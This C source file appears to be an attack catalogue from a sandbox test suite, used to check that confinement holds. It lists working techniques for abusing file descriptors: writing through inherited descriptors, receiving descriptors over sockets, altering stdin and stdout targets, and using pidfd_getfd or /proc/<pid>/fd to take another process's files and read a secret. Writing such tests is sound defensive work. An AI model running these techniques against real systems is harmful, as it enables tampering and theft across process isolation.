/* SPDX-License-Identifier: Apache-2.0 */
/* Attacks with descriptors that somebody else opened: what the parent left
 * open, what lies on 0 to 2, what is sent over a socket or taken from another
 * process. */

#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/xattr.h>
#include <unistd.h>

#include "attack.h"

static void
inherited_file(const struct world *w)
{
	(void)w;
	(void)!pwrite(INHERITED_FILE, "SPOILT\n", 7, 0);
}

static void
inherited_directory(const struct world *w)
{
	(void)w;
	spoil(openat(INHERITED_DIR, "new", O_WRONLY | O_CREAT, 0644));
	unlinkat(INHERITED_DIR, "file", 0);
}

static void
take_descriptors(int from)
{
	char control[CMSG_SPACE(2 * sizeof(int))] = { 0 }, byte;
	struct iovec iov = { .iov_base = &byte, .iov_len = 1 };
	struct msghdr msg = { .msg_iov = &iov,
		.msg_iovlen = 1,
		.msg_control = control,
		.msg_controllen = sizeof(control) };
	struct cmsghdr *c;
	int fds[2];

	if (recvmsg(from, &msg, 0) <= 0 || (c = CMSG_FIRSTHDR(&msg)) == NULL)
		return;
	memcpy(fds, CMSG_DATA(c), sizeof(fds));
	spoil(fds[0]);
	spoil(openat(fds[1], "new", O_WRONLY | O_CREAT, 0644));
}

static void
inherited_socket(const struct world *w)
{
	(void)w;
	if (write(INHERITED_SOCKET, "x", 1) == 1)
		take_descriptors(INHERITED_SOCKET);
}

/* Whatever is open beyond 2 that this program did not open. */
static void
inherited_anything(const struct world *w)
{
	for (int fd = 3; fd < 900; fd++) {
		char path[LENGTH] = "";

		if (readlink(proc_fd(fd), path, sizeof(path) - 1) <= 0)
			continue;
		if (strncmp(path, w->dir, strlen(w->dir)) == 0 ||
			strncmp(path, "socket:", 7) == 0) {
			loot(w, "an open descriptor");
			spoil(dup(fd));
		}
	}
}

static void
given_by_socket(const struct world *w)
{
	struct sockaddr_un a = { .sun_family = AF_UNIX };
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);

	snprintf(a.sun_path, sizeof(a.sun_path), "%s", w->given_path);
	if (connect(fd, (void *)&a, sizeof(a)) == 0)
		take_descriptors(fd);
}

static void
stdin_directory_open(const struct world *w)
{
	(void)w;
	spoil(openat(0, "file", O_WRONLY));
	spoil(openat(0, "new", O_WRONLY | O_CREAT, 0644));
}

static void
stdin_directory_names(const struct world *w)
{
	(void)w;
	mkdirat(0, "new", 0755);
	unlinkat(0, "full/two", 0);
	renameat(0, "file", 0, "renamed");
	renameat(AT_FDCWD, "sub/mine", 0, "file");
}

static void
stdin_directory_meta(const struct world *w)
{
	(void)w;
	fchmod(0, 0777);
	fchmodat(0, "file", 0777, 0);
}

static void
stdin_directory_chdir(const struct world *w)
{
	(void)w;
	if (fchdir(0) == 0)
		spoil(open("file", O_WRONLY));
}

static void
stdout_file_meta(const struct world *w)
{
	(void)w;
	fchmod(1, 0777);
	futimens(1, NULL);
	fsetxattr(1, "user.new", "1", 1, 0);
	(void)!fchown(1, getuid(), getgid());
}

static void
stdout_file_reopen(const struct world *w)
{
	(void)w;
	spoil(open("/dev/stdout", O_WRONLY | O_APPEND));
	spoil(open("/proc/self/fd/2", O_RDWR));
	(void)!truncate("/dev/stderr", 1);
}

static void
pidfd_get(const struct world *w)
{
	int pidfd = (int)syscall(SYS_pidfd_open, w->victim, 0);
	int fd = (int)syscall(SYS_pidfd_getfd, pidfd, VICTIM_FILE_FD, 0);

	if (pidfd < 0 && w->plain)
		cannot("no pidfd");
	if (fd < 0 && errno == EPERM && w->plain)
		cannot("pidfd_getfd is forbidden here");
	(void)!pwrite(fd, "SPOILT\n", 7, 0);
}

static void
pidfd_get_secret(const struct world *w)
{
	char bytes[64] = "";
	int pidfd = (int)syscall(SYS_pidfd_open, w->victim, 0);
	int fd = (int)syscall(SYS_pidfd_getfd, pidfd, VICTIM_SECRET_FD, 0);

	if (fd < 0 && errno == EPERM && w->plain)
		cannot("pidfd_getfd is forbidden here");
	if (pread(fd, bytes, sizeof(bytes), 0) > 0)
		loot_if_secret(w, bytes, sizeof(bytes));
}

/* A file without a name, reached through the process that holds it. */
static void
proc_fd_secret(const struct world *w)
{
	char name[64], bytes[64] = "";
	int fd;

	snprintf(name, sizeof(name), "/proc/%d/fd/%d", (int)w->victim, VICTIM_SECRET_FD);
	fd = open(name, O_RDONLY);
	if (fd >= 0 && pread(fd, bytes, sizeof(bytes), 0) > 0)
		loot_if_secret(w, bytes, sizeof(bytes));
}

/* Taken from the supervisor and the keeper: whatever they have. */
static void
of_ancestors(const struct world *w)
{
	char name[64];
	int found = 0;
	pid_t pid = w->plain ? w->victim : getppid();

	for (int up = 0; up < 2 && pid > 1; up++) {
		int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);

		for (int i = 0; i < 100; i++) {
			int fd = (int)syscall(SYS_pidfd_getfd, pidfd, i, 0);

			snprintf(name, sizeof(name), "/proc/%d/fd/%d", (int)pid, i);
			found += fd >= 0 || open(name, O_RDONLY | O_NONBLOCK) >= 0;
		}
		snprintf(name, sizeof(name), "/proc/%d/stat", (int)pid);
		FILE *stat = fopen(name, "re");

		if (stat == NULL || fscanf(stat, "%*d %*s %*c %d", &pid) != 1 || w->plain)
			break;
		fclose(stat);
	}
	if (found > 0)
		loot(w, "descriptors of others");
}

static const struct attack list[] = {
	{ "inherited-file", inherited_file, 0 },
	{ "inherited-directory", inherited_directory, 0 },
	{ "inherited-socket", inherited_socket, 0 },
	{ "inherited-anything", inherited_anything, 0 },
	{ "given-by-socket", given_by_socket, 0 },
	{ "stdin-directory-open", stdin_directory_open, STDIN_DIR },
	{ "stdin-directory-names", stdin_directory_names, STDIN_DIR },
	{ "stdin-directory-metadata", stdin_directory_meta, STDIN_DIR },
	{ "stdin-directory-chdir", stdin_directory_chdir, STDIN_DIR },
	{ "stdout-file-metadata", stdout_file_meta, STDIN_DIR },
	{ "stdout-file-reopen", stdout_file_reopen, STDIN_DIR },
	{ "pidfd-getfd", pidfd_get, 0 },
	{ "pidfd-getfd-secret", pidfd_get_secret, 0 },
	{ "proc-fd-secret", proc_fd_secret, 0 },
	{ "descriptors-of-supervisor", of_ancestors, 0 },
};

const struct attacks attacks_fd = { list, COUNT(list) };
